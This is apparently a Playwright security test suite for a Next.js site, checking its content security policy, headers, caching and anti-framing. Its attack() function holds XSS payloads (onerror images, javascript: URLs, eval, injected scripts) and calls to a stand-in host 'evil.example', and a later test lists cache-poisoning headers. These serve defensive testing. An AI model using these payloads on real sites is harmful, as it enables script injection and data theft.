import { existsSync, readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type APIResponse, expect } from '@playwright/test';
import { keepToken, signUpByCalls } from '../support/member';
import { test } from '../support/test';

/**
 * Makes the attempts of an attacker who can write into the page. Each runs in a timer of the page, because the
 * debugger, by which a test speaks to the page, may evaluate text where the page itself may not.
 */
function attack() {
  const code = 'window.executed = (window.executed || 0) + 1';
  const element = (name: string) => document.body.appendChild(document.createElement(name));
  const image = `<img src="/none.png" onerror="${code}">`;
  const attempts: Record<string, () => unknown> = {
    innerHTML: () => {
      element('div').innerHTML = image;
    },
    outerHTML: () => {
      element('div').outerHTML = image;
    },
    insertAdjacentHTML: () => element('div').insertAdjacentHTML('beforeend', image),
    'document.write': () => document.write(image),
    'contextual fragment': () =>
      document.body.append(document.createRange().createContextualFragment(image)),
    'parsed document': () =>
      document.body.append(new DOMParser().parseFromString(image, 'text/html').body),
    srcdoc: () => {
      (element('iframe') as HTMLIFrameElement).srcdoc = `<script>parent.${code}</script>`;
    },
    'event attribute': () => element('img').setAttribute('onerror', code),
    'inline script': () => element('script').append(code),
    'script text': () => {
      (element('script') as HTMLScriptElement).text = code;
    },
    'script of another host': () => {
      (element('script') as HTMLScriptElement).src = 'https://evil.example/x.js';
    },
    'script of a host that is let in elsewhere': () => {
      (element('script') as HTMLScriptElement).src =
        'https://www.google.com/complete/search?jsonp=x';
    },
    'script of this host that is no script of ours': () => {
      (element('script') as HTMLScriptElement).src = '/api/v1/config';
    },
    'script as data': () => {
      (element('script') as HTMLScriptElement).src = `data:text/javascript,${code}`;
    },
    'javascript: link': () => {
      const link = element('a') as HTMLAnchorElement;
      link.href = `javascript:${code}`;
      link.click();
    },
    'javascript: frame': () => {
      (element('iframe') as HTMLIFrameElement).src = `javascript:parent.${code}`;
    },
    // biome-ignore lint/security/noGlobalEval: the attack
    eval: () => window.eval(code),
    Function: () => new Function(code)(),
    'timer with text': () => window.setTimeout(code),
    worker: () => new Worker(`data:text/javascript,${code}`),
    'base of another host': () => {
      (element('base') as HTMLBaseElement).href = 'https://evil.example/';
    },
    'form to another host': () => {
      const form = element('form') as HTMLFormElement;
      form.action = 'https://evil.example/';
      form.submit();
    },
    plugin: () => {
      (element('object') as HTMLObjectElement).data = 'https://evil.example/x.swf';
    },
    'call to another host': () => fetch('https://evil.example/').catch(() => {}),
    'picture of another host': () => {
      (element('img') as HTMLImageElement).src = 'https://evil.example/token.png';
    },
  };
  return new Promise<string[]>((resolve) => {
    setTimeout(() => {
      for (const attempt of Object.values(attempts)) {
        try {
          attempt();
        } catch {
          // Refused on the spot; what is refused later is counted by its effect.
        }
      }
      // Any script that was injected has run by then.
      setTimeout(() => resolve(Object.keys(attempts)), 1000);
    });
  });
}

for (const path of ['/', '/contactus', '/auth/login', '/dashboard']) {
  // security(Delivery and configuration 3.4.3, 3.4.6): One content security policy for every page; no framing by other sites
  test(`nothing that is injected into ${path} runs, and the browser reports it`, async ({
    page,
    request,
    baseURL,
    faults,
  }) => {
    faults.expect(/^policy: /);
    faults.expect(/^other host: https:\/\/evil\.example/);
    faults.expect(/^console: .*(Content Security Policy|Trusted|insecure)/i);
    if (path === '/dashboard') {
      await keepToken(page, baseURL, (await signUpByCalls(request)).token);
    }
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const reported = page.waitForRequest('**/api/csp-report');
    // The browser names a request before the policy stops it; none may end in any other way.
    const stopped: string[] = [];
    page.on('requestfailed', (failed) => {
      if (!failed.url().startsWith(baseURL ?? '')) stopped.push(failed.failure()?.errorText ?? '');
    });
    const elsewhere: string[] = [];
    page.on('response', (answer) => {
      if (!answer.url().startsWith(baseURL ?? '')) elsewhere.push(answer.url());
    });
    expect((await page.evaluate(attack)).length).toBe(25);
    expect(await page.evaluate(() => (window as unknown as { executed?: number }).executed)).toBe(
      undefined,
    );
    await reported;
    expect(elsewhere, 'answers of other hosts').toEqual([]);
    expect(stopped.filter((reason) => !/csp/i.test(reason))).toEqual([]);
    expect(new URL(page.url()).pathname, 'the page is still there').toBe(path);
    expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
  });
}

test.describe('headers', () => {
  const policyOf = (answer: APIResponse) =>
    Object.fromEntries(
      (answer.headers()['content-security-policy'] ?? '').split('; ').map((part) => {
        const [name = '', ...values] = part.split(' ');
        return [name, values];
      }),
    );

  const isDocument = (answer: APIResponse) => {
    const headers = answer.headers();
    const policy = policyOf(answer);
    expect(policy['default-src']).toEqual(["'none'"]);
    expect(policy['frame-ancestors']).toEqual(["'none'"]);
    expect(policy['base-uri']).toEqual(["'none'"]);
    expect(policy['object-src']).toEqual(["'none'"]);
    expect(policy['require-trusted-types-for']).toEqual(["'script'"]);
    expect(policy['report-uri']).toEqual(['/api/csp-report']);
    expect(policy['script-src'], 'no inline scripts, no evaluation').not.toEqual(
      expect.arrayContaining([expect.stringContaining('unsafe')]),
    );
    expect(headers).toMatchObject({
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin-allow-popups',
    });
    expect(headers['permissions-policy']).toContain('geolocation=()');
  };

  const isApi = (answer: APIResponse) => {
    expect(answer.headers()['cache-control']).toContain('no-store');
    const { 'default-src': any, 'frame-ancestors': frames, ...others } = policyOf(answer);
    expect([any, frames]).toEqual([["'none'"], ["'none'"]]);
    // No other directive allows anything either.
    expect(
      Object.values(others)
        .flat()
        .filter((value) => value !== "'none'"),
    ).toEqual([]);
  };

  const ANSWERS: [path: string, status: number, check: (answer: APIResponse) => void][] = [
    ['/', 200, isDocument],
    ['/price', 200, isDocument],
    ['/static/privacy-policy', 200, isDocument],
    ['/auth/login', 200, isDocument],
    ['/contactus', 200, isDocument],
    ['/dashboard', 200, isDocument],
    ['/404', 404, isDocument],
    ['/nothing/here', 404, isDocument],
    ['/static/no-such-text', 404, isDocument],
    ['/robots.txt', 200, isDocument],
    ['/sitemap.xml', 200, isDocument],
    ['/.well-known/security.txt', 200, isDocument],
    ['/social.png', 200, isDocument],
    ['/api/v1/config', 200, isApi],
    ['/api/v1/user/sessions', 401, isApi],
    ['/api/v1/none', 404, isApi],
    ['/api/none', 404, isApi],
    ['/api/csp-report', 405, isApi],
    ['/_next/static/none.js', 404, () => {}],
  ];

  for (const [path, status, check] of ANSWERS) {
    test(`of ${path}`, async ({ request }) => {
      const answer = await request.get(path, { maxRedirects: 0 });
      expect(answer.status()).toBe(status);
      const headers = answer.headers();
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['cross-origin-resource-policy']).toBe('same-origin');
      expect(headers['x-powered-by']).toBeUndefined();
      expect(headers['set-cookie'], 'the service sets no cookie').toBeUndefined();
      expect(headers['access-control-allow-origin']).toBeUndefined();
      check(answer);
    });
  }

  test('say of every page how long it may be kept, and of none for more than minutes', async ({
    request,
  }) => {
    const routes = readdirSync('pages', { recursive: true, encoding: 'utf8' })
      .filter((file) => file.endsWith('.tsx') && !/(^|\/)_|\[/.test(file))
      .map((file) => `/${file.replace(/(^|\/)index\.tsx$|\.tsx$/, '')}`);
    expect(routes.length).toBeGreaterThan(40);
    const kept: Record<string, number> = {};
    for (const route of routes) {
      const control = (await request.get(route)).headers()['cache-control'] ?? 'none';
      const seconds = [...control.matchAll(/=(\d+)/g)].map(([, text]) => Number(text));
      const most = seconds.reduce((sum, each) => sum + each, 0);
      kept[`${route}: ${control}`] = /no-cache|no-store|s-maxage/.test(control) ? most : Infinity;
    }
    expect(Object.entries(kept).filter(([, seconds]) => seconds > 300)).toEqual([]);
  });

  test('change of password is where a password manager looks for it', async ({ request }) => {
    const answer = await request.get('/.well-known/change-password', { maxRedirects: 0 });
    expect([answer.status(), answer.headers().location]).toEqual([307, '/settings?tab=security']);
  });

  test('of scripts, and of a page from the cache', async ({ request }) => {
    const page = await request.get('/faq');
    const script = /\/_next\/static\/chunks\/main[^"]*\.js/.exec(await page.text())?.[0] ?? '';
    const answer = await request.get(script);
    expect(answer.headers()['x-content-type-options']).toBe('nosniff');
    expect(answer.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
    // `next build` alone makes no compressed copies; then Next answers with gzip.
    const encodings = existsSync(`.next/static/${script.slice('/_next/static/'.length)}.br`)
      ? ['br', 'gzip']
      : ['gzip', 'gzip'];
    for (const [at, accepted] of ['gzip, br', 'gzip'].entries()) {
      const packed = await request.get(script, { headers: { 'accept-encoding': accepted } });
      expect(packed.headers()).toMatchObject({
        'content-encoding': encodings[at],
        'content-type': 'application/javascript; charset=UTF-8',
        vary: 'Accept-Encoding',
      });
      expect(await packed.text()).toBe(await answer.text());
    }
    const again = await request.get('/faq');
    expect(again.headers()['x-nextjs-cache']).toMatch(/HIT|STALE/);
    isDocument(again);
  });
});

// security(Delivery and configuration cache poisoning): No request header or query changes a cached page
test('no header and no query of a stranger changes what others get from the cache', async ({
  request,
}) => {
  const EVIL = 'evil.example';
  const HEADERS: Record<string, string>[] = [
    { 'x-forwarded-host': EVIL },
    { 'x-forwarded-proto': 'javascript' },
    { 'x-forwarded-prefix': `//${EVIL}` },
    { 'x-original-url': '/dashboard' },
    { 'x-rewrite-url': '/dashboard' },
    { 'x-matched-path': '/dashboard' },
    { 'x-now-route-matches': `1=${EVIL}` },
    { 'x-invoke-path': '/dashboard' },
    { 'x-invoke-query': encodeURIComponent(JSON.stringify({ slug: EVIL })) },
    { 'x-invoke-output': '/dashboard' },
    { 'x-invoke-status': '500' },
    { 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware' },
    { 'x-middleware-prefetch': '1' },
    { 'x-nextjs-data': '1' },
    { 'x-prerender-revalidate': '0'.repeat(32) },
    { 'next-router-prefetch': '1', rsc: '1' },
    { purpose: 'prefetch' },
    { 'accept-language': EVIL },
    { accept: 'application/json' },
  ];
  const QUERIES = [
    '__nextDataReq=1',
    `__nextLocale=${EVIL}`,
    '__nextNotFoundSrcPage=/dashboard',
    `nxtPslug=${EVIL}`,
    `slug=${EVIL}`,
    'amp=1',
    '_rsc=1',
    `utm_source=${EVIL}`,
  ];
  for (const path of ['/static/privacy-policy', '/static/cookies', '/how-work']) {
    // The first visit after a build may still bring what the build knew.
    await expect
      .poll(async () => (await request.get(path)).headers()['x-nextjs-cache'])
      .toBe('HIT');
    const clean = await (await request.get(path)).text();
    const check = async (how: string) => {
      const answer = await request.get(path);
      expect(answer.status(), how).toBe(200);
      expect(answer.headers()['content-type'], how).toContain('text/html');
      expect((await answer.text()) === clean, `${path} is unchanged after ${how}`).toBe(true);
    };
    for (const headers of HEADERS) {
      const answer = await request.get(path, { headers, maxRedirects: 0 });
      expect(await answer.text(), JSON.stringify(headers)).not.toContain(EVIL);
      await check(JSON.stringify(headers));
    }
    for (const query of QUERIES) {
      await request.get(`${path}?${query}`, { maxRedirects: 0 });
      await check(query);
    }
  }
});

// security(Delivery and configuration 3.4.3, 3.4.6)
test('no page of ours can be framed by another site', async ({ page, baseURL, faults }) => {
  faults.expect(/^other host: http:\/\/127\.0\.0\.1/);
  faults.expect(/^console: Framing .* violates/);
  const paths = ['/', '/auth/login', '/dashboard', '/buy-shares', '/api/v1/config'];
  // No page: it shows that frames work in this test.
  const harmless = '/marks/seal.svg';
  const frames = [...paths, harmless].map((path) => `<iframe src="${baseURL}${path}"></iframe>`);
  const site = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html').end(frames.join(''));
  });
  await new Promise<void>((ready) => site.listen(0, '127.0.0.1', ready));
  try {
    await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
    // A refused frame gets its address after the load event of the page.
    const shown = () => page.frames().map((frame) => frame.url());
    const refused = paths.map(() => 'chrome-error://chromewebdata/');
    await expect.poll(() => shown().slice(1)).toEqual([...refused, baseURL + harmless]);
  } finally {
    site.closeAllConnections();
    site.close();
  }
});
